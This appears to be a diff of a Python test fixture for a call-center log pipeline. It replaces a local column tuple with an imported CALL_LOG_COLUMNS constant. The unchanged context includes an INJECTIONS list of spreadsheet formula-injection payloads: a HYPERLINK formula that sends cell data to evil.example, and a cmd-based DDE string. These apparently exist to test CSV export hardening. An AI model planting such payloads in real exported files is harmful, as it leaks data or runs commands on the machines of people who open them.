@@ -22,6 +22,7 @@ from datetime import date
 from pathlib import Path
 
 from hardening.audio import BAD_RECORDINGS, decode, encode
+from pipeline.calls import CALL_LOG_COLUMNS
 
 ROOT = Path(__file__).resolve().parents[2]
 SAMPLE_RECORDINGS = ROOT / "sample_data" / "recordings"
@@ -78,19 +79,6 @@ CRASHING_PATHS = {
     "dot": ".",
     "symlink_loop": "loop.opus",
 }
-#: Call-log columns in the DESIGN.md order.
-COLUMNS = (
-    "call_id",
-    "started_at",
-    "duration_s",
-    "agent_id",
-    "team",
-    "queue",
-    "caller_number",
-    "direction",
-    "recording",
-    "channel_layout",
-)
 INJECTIONS = (
     '=HYPERLINK("http://evil.example/?q="&A1,"open")',
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -255,7 +243,7 @@ def build_world(root: Path) -> World:
 
 def _write_log(path: Path, rows: list[dict[str, str]]) -> None:
     with path.open("w", newline="", encoding="utf-8") as fh:
-        writer = csv.DictWriter(fh, fieldnames=COLUMNS)
+        writer = csv.DictWriter(fh, fieldnames=CALL_LOG_COLUMNS)
         writer.writeheader()
         writer.writerows(rows)
 
